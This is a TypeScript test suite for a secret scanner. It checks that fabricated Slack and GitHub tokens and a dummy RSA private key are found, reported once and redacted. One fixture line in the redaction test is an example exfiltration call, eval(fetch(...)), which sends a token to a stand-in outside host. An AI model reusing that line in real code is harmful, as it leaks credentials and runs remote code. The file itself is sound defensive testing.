import { describe, expect, it } from 'vitest';
import { checkContents } from '../../index.ts';
import { checkSecrets, type SecretLimits } from './check-secrets.ts';
import { searchText } from './search-text.ts';
import type { FindSecrets } from './rules.ts';

/** Put together here, so that nobody takes this file for one with secrets in it. */
const SLACK = ['xoxb', '123456789012', '1234567890123', 'AbCdEfGhIjKlMnOpQrStUvWx'].join('-');
const GITHUB = `ghp_${'aB3'.repeat(12)}`;
const body = `${'MIIEpAIBAAKCAQEA7bq4Zx'.repeat(20)}\n`;
const PEM = ['BEGIN', 'END'].map((word) => `-----${word} RSA PRIVATE KEY-----\n`).join(body);

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

async function search(texts: Readonly<Record<string, string | Uint8Array>>, limits?: SecretLimits) {
  const files = Object.entries(texts).map(
    ([path, text]) => [path, typeof text === 'string' ? encode(text) : text] as const,
  );
  const { check } = await checkSecrets({ files: new Map(files) }, undefined, limits);
  const places = check.findings.map(
    ({ file, line, column, category }) => `${file}:${line}:${column} ${category ?? ''}`,
  );
  return { check, places };
}

async function evidence(text: string, file = 'a'): Promise<string | undefined> {
  return (await search({ [file]: text })).check.findings[0]?.evidence;
}

describe('secrets', () => {
  it('are found where they stand, in any file', async () => {
    const { places, check } = await search({
      'dist/index.js': `const x = 1;\n  const token = "${SLACK}";\n`,
      'README.md': `Use \`${GITHUB}\`.\n`,
      'keys/id_rsa': PEM,
      'data.bin': new Uint8Array([0, 1, 0xff, ...encode(` ${SLACK} `), 0]),
      'other.js': 'const token = process.env.SLACK_TOKEN;\n',
    });
    expect(places).toEqual([
      'README.md:1:6 github',
      'data.bin:1:5 slack',
      'dist/index.js:2:18 slack',
      'keys/id_rsa:1:1 privatekey',
    ]);
    expect(check).toMatchObject({ result: 'fail', reason: expect.stringContaining('5 files') as string });
  });

  it('are not in a package that has none', async () => {
    expect(
      (await search({ 'a.js': 'export const a = "xoxb";\n', 'b.bin': new Uint8Array([0, 1, 2]) })).check,
    ).toMatchObject({
      result: 'pass',
      findings: [],
    });
  });

  it.each([
    `/* secretlint-disable */ const a = "${SLACK}";`,
    `// secretlint-disable-next-line\nconst a = "${SLACK}";`,
    `const a = "${SLACK}"; // secretlint-disable-line @secretlint/secretlint-rule-slack`,
    `<!-- secretlint-disable @secretlint/secretlint-rule-slack -->\n${SLACK}\n<!-- secretlint-enable -->`,
  ])('are found though the file says not to look: %#', async (text) => {
    expect((await search({ 'a.md': text })).check.result).toBe('fail');
  });

  it('are found in UTF-16', async () => {
    const little = Buffer.from(`\ufeffx\n${SLACK}\n`, 'utf16le');
    expect((await search({ little, big: Buffer.from(little).swap16() })).places).toEqual([
      'big:2:1 slack',
      'little:2:1 slack',
    ]);
  });

  it('are found in long files, also where two pieces meet, and each once', async () => {
    const piece = 52 * 1024;
    for (const offset of [piece - 10, piece, piece + 100, piece + 600, 64 * 1024 - 20, 300_000]) {
      const text = `${' '.repeat(offset - 1)}"${SLACK}"${' '.repeat(200_000)}`;
      expect((await search({ a: text })).places).toEqual([`a:1:${offset + 1} slack`]);
    }
    const text = `${'a\n'.repeat(25_000)}${PEM}${'a\n'.repeat(30_000)}`;
    expect((await search({ a: text })).places).toEqual(['a:25001:1 privatekey']);
  });

  it('are never quoted, neither by this check nor by another', async () => {
    const code = `eval(fetch("https://hooks.example/${GITHUB}")); const t = "${SLACK}";\nprocess.env["${SLACK}"];\n`;
    const files = new Map([
      ['index.js', encode(code)],
      ['package.json', encode('{"main": "index.js", "type": "module"}')],
    ]);
    const { checks } = await checkContents({ files, manifest: undefined }, { nowMs: 0 });
    expect(checks.find(({ id }) => id === 'secrets')?.findings).toHaveLength(3);
    expect(checks.find(({ id }) => id === 'scan')?.findings.length).toBeGreaterThan(1);
    for (const secret of [SLACK, GITHUB]) expect(JSON.stringify(checks)).not.toContain(secret.slice(5, 16));
  });

  it('show what stands before them, unless that is long or looks like one', async () => {
    expect(await evidence(`const token = "${SLACK}"; // kept`)).toBe('const token = "***');
    expect(await evidence(`${'x '.repeat(50)}${SLACK}`)).toBe('***');
    expect(await evidence(`_authToken=${'a1B2c3D4e5F6'.repeat(3)}`, '.npmrc')).toBe('***');
  });
});

describe('what is too much', () => {
  it('is told, and is no pass', async () => {
    const { check } = await search({ a: 'x'.repeat(100), b: 'y' }, { totalBytes: 50, secrets: 10 });
    expect(check).toMatchObject({ result: 'could-not-run', reason: expect.stringMatching(/^a /) as string });
  });

  it('ends the search once there are enough', async () => {
    const many = `"${SLACK}"\n`.repeat(500);
    const { check } = await search({ a: many, b: many }, { totalBytes: 1e6, secrets: 20 });
    expect(check.findings).toHaveLength(20);
    expect(check).toMatchObject({ result: 'fail', reason: expect.stringMatching(/^b /) as string });
  });

  it('does not take long, whatever the text is', async () => {
    const attacks = [
      'https://a:',
      'xoxb-1-',
      'postgres://a:a',
      'ghs_1_',
      '-----BEGIN PRIVATE KEY-----\n',
      '_authToken=a\n',
    ];
    const texts = attacks.map(
      (attack) => [attack.slice(0, 5), attack.repeat(Math.ceil(300_000 / attack.length))] as const,
    );
    const { check } = await search(Object.fromEntries(texts));
    expect(check.reason).toBeDefined();
  }, 20_000);

  it('stops when it is told to', async () => {
    const signal = AbortSignal.abort(new Error('stopped'));
    await expect(checkSecrets({ files: new Map([['a', encode('x')]]) }, signal)).rejects.toThrow('stopped');
  });
});

const findNumbers: FindSecrets = (_name, text) =>
  Promise.resolve(
    Array.from(text.matchAll(/<\d{3,12}>/g), ({ index, 0: hit }) => ({
      rule: 'x',
      kind: 'X',
      start: index,
      end: index + hit.length,
    })),
  );

describe('a text in pieces', () => {
  const options = { name: 'a', limit: 100, pause: () => Promise.resolve() };

  it('is searched as if it were whole', async () => {
    const text = Array.from(
      { length: 70 },
      (_, index) => `${'.'.repeat(index * 97)}<${String(index * 7919 + 1000)}>`,
    ).join('');
    expect(await searchText(text, { ...options, find: findNumbers })).toEqual(await findNumbers('a', text));
  });

  it('that the rules cannot bear was not searched', async () => {
    await expect(
      searchText('x', { ...options, find: () => Promise.reject(new RangeError('too deep')) }),
    ).rejects.toThrow(RangeError);
  });
});
